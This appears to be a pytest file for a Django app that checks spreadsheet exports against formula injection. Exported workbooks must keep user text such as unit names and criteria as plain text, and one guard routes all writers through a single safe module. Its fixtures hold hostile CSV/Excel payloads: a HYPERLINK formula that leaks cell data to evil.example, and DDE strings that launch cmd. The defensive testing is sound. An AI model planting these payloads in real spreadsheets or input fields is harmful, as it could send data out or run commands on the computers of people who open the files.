"""Formula injection (issue 19, class 2): text typed by users (unit names, criteria set and
criterion names, notes, explanations) that starts with ``=``, ``+``, ``-``, ``@``, a tab or a CR
must reach every workbook the product writes as text, never as a live formula.

Each export is downloaded through its real view as a user who may see it, opened with
openpyxl, and no cell may be a formula (the product writes none) or an error value; the hostile
texts are there, verbatim, as text. The offline-entry workbook and the criteria workbook also
go back in unchanged. A guard keeps every workbook and CSV writer in ``antt/spreadsheets.py``.
"""

import ast
import datetime
import io
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from antt.spreadsheets import TextWorkbook
from certification.exchange import assessment_excel
from certification.models import Answer, Assessment, Campaign, CriteriaSet, Criterion, Registration, Result
from certification.models.criteria import UnitKind
from certification.services import entry
from tests.builders import make_campaign
from units.models import Unit

ROOT = Path(__file__).resolve().parents[2]
AT = Criterion.AnswerType

# What a hostile user types; the first ones survive a round trip through Excel verbatim.
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
ROUND_TRIP = [HYPERLINK, "=SUM(A1:A9)", "-5 hộ vi phạm", "+84 912 345 678", "@SUM(1+1)*cmd|' /C calc'!A0"]
HOSTILE = [*ROUND_TRIP, "\t=1+1", "\r=1+1", "#N/A", "=cmd|' /C calc'!A0"]


@pytest.fixture
def hostile(province, commune, officer):
    """A campaign whose criteria set, criteria, units, results and assessments carry HOSTILE text."""
    criteria_set = CriteriaSet.objects.create(
        family="kdc-hostile",
        version=1,
        unit_kind=UnitKind.RESIDENTIAL_AREA,
        name=HYPERLINK,
        legal_basis="-5 hộ vi phạm",
        year_from=2022,
        status=CriteriaSet.Status.PUBLISHED,
    )
    for order, text in enumerate(ROUND_TRIP, start=1):
        Criterion.objects.create(
            criteria_set=criteria_set,
            code=f"KDC-{order}",
            text=text,
            order=order,
            answer_type=AT.BOOLEAN,
            na_allowed=True,
            na_condition="=1+1",
            evidence_hint="@cmd",
        )
    today = timezone.localdate()
    campaign = make_campaign(
        province, today.year, [criteria_set], entry_end=today + datetime.timedelta(days=30)
    )
    units = [
        Unit.objects.create(
            code=f"{commune.code}-H{i:02d}",
            name=text,
            label="",
            kind=Unit.Kind.RESIDENTIAL_AREA,
            parent=commune,
            household_count=40 + i,
        )
        for i, text in enumerate(HOSTILE)
    ]
    for unit in units[:3]:
        entry.start_assessment(campaign=campaign, unit=unit, by=officer)
    unit = next(u for u in units if u.name == "#N/A")
    failed = Assessment.objects.create(
        campaign=campaign, unit=unit, criteria_set=criteria_set, status=Assessment.Status.NOT_RECOGNIZED
    )
    Registration.objects.create(
        campaign=campaign, unit=unit, registered_on=today, households_total=47, households_registered=45
    )
    Result.objects.create(
        campaign=campaign,
        unit=unit,
        assessment=failed,
        outcome="fail",
        points=Decimal("-5.00"),
        unmet_codes=["KDC-1"],
        explanation="=SUM(A1:A9)",
    )
    return campaign


def download(client, user, url: str) -> bytes:
    client.force_login(user)
    response = client.get(url)
    assert response.status_code == 200, response.status_code
    content = b"".join(response.streaming_content) if response.streaming else response.content
    assert content[:2] == b"PK"
    return content


def cells(data: bytes):
    for sheet in load_workbook(io.BytesIO(data)).worksheets:
        for row in sheet.iter_rows():
            yield from (cell for cell in row if cell.value is not None)


def assert_no_formula(data: bytes, *expected: str) -> None:
    """No cell is a formula or an error value, and each ``expected`` text is there as text."""
    live = [
        f"{c.parent.title}!{c.coordinate} = {c.value!r}" for c in cells(data) if c.data_type in ("f", "e")
    ]
    assert not live, "user text became a formula:\n" + "\n".join(live)
    texts = {c.value for c in cells(data) if c.data_type == "s"}
    assert not set(expected) - texts, f"missing as text: {set(expected) - texts}"


def offline_url(campaign: Campaign) -> str:
    return f"{reverse('certification:assessments-excel-download')}?campaign={campaign.pk}"


@pytest.mark.django_db
def test_the_offline_entry_workbook_keeps_unit_names_as_text(client, officer, hostile):
    assert_no_formula(download(client, officer, offline_url(hostile)), *ROUND_TRIP, "#N/A")


@pytest.mark.django_db
def test_the_results_export_keeps_unit_names_and_explanations_as_text(client, officer, hostile):
    data = download(client, officer, reverse("certification:scoring-export", args=[hostile.pk]))
    assert_no_formula(data, *ROUND_TRIP, "#N/A")
    row = next(
        r for r in load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True) if r[1] == "#N/A"
    )
    assert row[6] == -5 and row[9] == "=SUM(A1:A9)"  # a negative number stays a number


@pytest.mark.django_db
def test_the_criteria_export_keeps_the_set_and_criterion_names_as_text(client, officer, hostile):
    criteria_set = hostile.criteria_sets.get()
    data = download(client, officer, reverse("certification:criteria-set-export", args=[criteria_set.pk]))
    assert_no_formula(data, *ROUND_TRIP, "=1+1", "@cmd")


@pytest.mark.django_db
def test_the_assessment_list_export_keeps_unit_names_as_text(client, officer, hostile):
    data = download(client, officer, f"{reverse('certification:assessment-list')}?export=xlsx")
    assert_no_formula(data, *ROUND_TRIP[:3])


@pytest.mark.django_db
def test_the_summary_report_keeps_unit_names_as_text(client, clerk, commune, hostile):
    url = reverse("certification:report-summary")
    data = download(client, clerk, f"{url}?unit={commune.pk}&year={hostile.year}&format=xlsx")
    assert_no_formula(data, "#N/A")


@pytest.mark.django_db
def test_the_units_import_template_holds_no_formula(client, province_admin):
    assert_no_formula(download(client, province_admin, reverse("units:import-template")))


@pytest.mark.django_db
def test_the_offline_entry_workbook_goes_back_in_unchanged_and_numbers_stay_numbers(client, officer, hostile):
    data = download(client, officer, offline_url(hostile))
    sheet = load_workbook(io.BytesIO(data)).active
    first = next(row for row in sheet.iter_rows(min_row=2) if row[1].value == HYPERLINK)
    assert first[3].data_type == "n" and first[3].value == 40
    before = list(Answer.objects.order_by("pk").values_list("value", flat=True))
    report = assessment_excel.import_workbook(io.BytesIO(data), year=hostile.year, user=officer)
    assert report.ok, [str(e) for e in report.errors]
    assert not report.changed_plans
    assert list(Answer.objects.order_by("pk").values_list("value", flat=True)) == before


@pytest.mark.django_db
def test_the_criteria_workbook_goes_back_in_with_its_names_verbatim(client, superuser, hostile):
    source = hostile.criteria_sets.get()
    data = download(client, superuser, reverse("certification:criteria-set-export", args=[source.pk]))
    upload = SimpleUploadedFile("bo-tieu-chi.xlsx", data)
    response = client.post(reverse("certification:criteria-set-import"), {"file": upload})
    assert response.status_code == 302, response.content.decode()[:2000]
    copy = CriteriaSet.objects.get(family=source.family, version=2)
    assert (copy.name, copy.legal_basis) == (HYPERLINK, "-5 hộ vi phạm")
    assert list(copy.criteria.order_by("order").values_list("text", "na_condition", "evidence_hint")) == [
        (text, "=1+1", "@cmd") for text in ROUND_TRIP
    ]


# --- the one writer ----------------------------------------------------------------------------


@pytest.mark.parametrize("write_only", [False, True])
def test_the_writer_stores_every_text_as_text_and_numbers_as_numbers(write_only):
    workbook = TextWorkbook(write_only=write_only)
    sheet = workbook.create_sheet("Trang") if write_only else workbook.active
    sheet.append([*HOSTILE, -5, Decimal("-2.5"), "bad\x01char"])
    if not write_only:  # cells set one by one are checked when the workbook is saved
        sheet.cell(row=2, column=1, value="=SUM(A1)")
        sheet["B2"] = "#REF!"
    data = workbook.to_bytes()
    first = list(load_workbook(io.BytesIO(data)).worksheets[-1].iter_rows())[0]
    texts, numbers, stripped = first[: len(HOSTILE)], first[len(HOSTILE) : -1], first[-1]
    assert [(c.value, c.data_type) for c in texts] == [(text, "s") for text in HOSTILE]
    assert [(c.value, c.data_type) for c in numbers] == [(-5, "n"), (-2.5, "n")]
    assert stripped.value == "badchar"  # a character Excel cannot hold is dropped, not a 500
    assert_no_formula(data, *(["=SUM(A1)", "#REF!"] if not write_only else []))


# --- guard: one writer -------------------------------------------------------------------------

WRITER = ROOT / "antt" / "spreadsheets.py"
FORBIDDEN = {
    ("openpyxl", "Workbook"),
    ("openpyxl.workbook", "Workbook"),
    ("openpyxl.workbook.workbook", "Workbook"),
    ("openpyxl.cell", "Cell"),
    ("openpyxl.cell", "WriteOnlyCell"),
    ("openpyxl.cell.cell", "Cell"),
    ("openpyxl.cell.cell", "WriteOnlyCell"),
    ("csv", "writer"),
    ("csv", "DictWriter"),
}


def writers_outside_the_one_writer() -> list[str]:
    found = []
    for app in ("antt", "certification", "units"):
        for path in sorted((ROOT / app).rglob("*.py")):
            if path == WRITER or "migrations" in path.parts:
                continue
            for node in ast.walk(ast.parse(path.read_text(), str(path))):
                names = []
                if isinstance(node, ast.ImportFrom):
                    names = [(node.module or "", alias.name) for alias in node.names]
                elif isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name):
                    names = [(node.value.id, node.attr)]
                for module, name in names:
                    if (module, name) in FORBIDDEN:
                        where = f"{path.relative_to(ROOT)}:{node.lineno}"
                        found.append(f"{where} uses {module}.{name}")
    return found


def test_every_workbook_and_csv_is_written_through_the_one_writer():
    found = writers_outside_the_one_writer()
    assert not found, (
        "write workbooks with antt.spreadsheets.TextWorkbook (text stays text, never a formula); "
        "a CSV writer belongs in antt/spreadsheets.py too:\n" + "\n".join(found)
    )
